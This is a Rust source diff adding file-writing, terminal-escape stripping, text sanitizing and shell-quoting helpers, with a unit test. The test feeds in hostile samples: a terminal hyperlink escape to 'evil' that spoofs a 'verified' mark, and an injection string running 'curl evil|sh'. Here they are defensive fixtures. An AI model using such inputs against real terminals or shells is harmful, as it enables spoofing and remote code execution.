@@ -1,4 +1,9 @@
 use std::error::Error;
+use std::fs::{self, File};
+use std::io::{self, Write};
+use std::iter::Peekable;
+use std::path::Path;
+use std::str::Chars;
 use reqwest::Client;
 
 pub async fn upload_whitelist_entry(name: &str, hash: &str, base_url: &str) -> Result<(), Box<dyn Error>> {
@@ -17,4 +22,120 @@ pub async fn upload_whitelist_entry(name: &str, hash: &str, base_url: &str) -> R
         .await?;
     
     Ok(())
-}
\ No newline at end of file
+}
+
+/// Replace `path` with `data` so readers see either the old or the new
+/// content, never a partial write: write a temporary file next to it, flush
+/// it to disk and rename it over `path`.
+pub fn write_atomic(path: &Path, data: &[u8]) -> io::Result<()> {
+    let mut name = path.file_name().unwrap_or_default().to_os_string();
+    name.push(format!(".tmp-{}", std::process::id()));
+    let tmp = path.with_file_name(name);
+    let result = (|| {
+        let mut file = File::create(&tmp)?;
+        file.write_all(data)?;
+        file.sync_all()?;
+        fs::rename(&tmp, path)
+    })();
+    if result.is_err() {
+        let _ = fs::remove_file(&tmp);
+    }
+    result?;
+    // 目录项本身也要落盘，否则断电后重命名可能丢失
+    #[cfg(unix)]
+    if let Some(dir) = path.parent().filter(|dir| !dir.as_os_str().is_empty()) {
+        File::open(dir)?.sync_all()?;
+    }
+    Ok(())
+}
+
+/// Remove ANSI escape sequences: CSI (`ESC [` … or the 8-bit `0x9b`), OSC
+/// (`ESC ]` … terminated by BEL or `ESC \`) and two-character escapes.
+pub fn strip_ansi(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\u{9b}' => skip_csi(&mut chars),
+            '\u{1b}' => match chars.next() {
+                Some('[') => skip_csi(&mut chars),
+                Some(']') => skip_osc(&mut chars),
+                // 两个字符的转义序列，第二个字符已经被跳过
+                _ => {}
+            },
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+/// Parameters and intermediates up to and including the final byte (0x40-0x7E).
+fn skip_csi(chars: &mut Peekable<Chars<'_>>) {
+    for c in chars.by_ref() {
+        if ('\u{40}'..='\u{7e}').contains(&c) {
+            break;
+        }
+    }
+}
+
+/// Everything up to BEL or `ESC \`.
+fn skip_osc(chars: &mut Peekable<Chars<'_>>) {
+    while let Some(c) = chars.next() {
+        if c == '\u{7}' || (c == '\u{1b}' && chars.next_if_eq(&'\\').is_some()) {
+            break;
+        }
+    }
+}
+
+/// Make untrusted text safe to print: control characters (escape sequences,
+/// carriage returns, backspaces, 8-bit C1 codes) and bidirectional overrides
+/// are shown escaped instead of being interpreted by the terminal. Line breaks
+/// and tabs are kept.
+pub fn sanitize(text: &str) -> String {
+    escape_controls(text, |c| c == '\n' || c == '\t')
+}
+
+/// Like [`sanitize`], but also escapes line breaks, for names and other values
+/// printed on a single line.
+pub fn sanitize_line(text: &str) -> String {
+    escape_controls(text, |_| false)
+}
+
+/// Quote `value` as one POSIX shell word, for commands the user is told to copy.
+pub fn shell_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', "'\\''"))
+}
+
+/// Whether `c` is interpreted by a terminal rather than printed.
+pub fn is_terminal_control(c: char) -> bool {
+    c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
+fn escape_controls(text: &str, keep: impl Fn(char) -> bool) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if is_terminal_control(c) && !keep(c) {
+            out.extend(c.escape_default());
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_sanitize() {
+        let text = "weather\u{1b}]8;;https://evil\u{7}\r  -  ✅ verified\u{202e}\nnext";
+        assert_eq!(
+            sanitize(text),
+            "weather\\u{1b}]8;;https://evil\\u{7}\\r  -  ✅ verified\\u{202e}\nnext"
+        );
+        assert_eq!(sanitize_line("a\nb\tc"), "a\\nb\\tc");
+        assert_eq!(strip_ansi("\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{1b}\\ok\u{1b}7"), "red ok");
+        assert_eq!(shell_quote("x' ; curl evil|sh ; '"), "'x'\\'' ; curl evil|sh ; '\\'''");
+    }
+}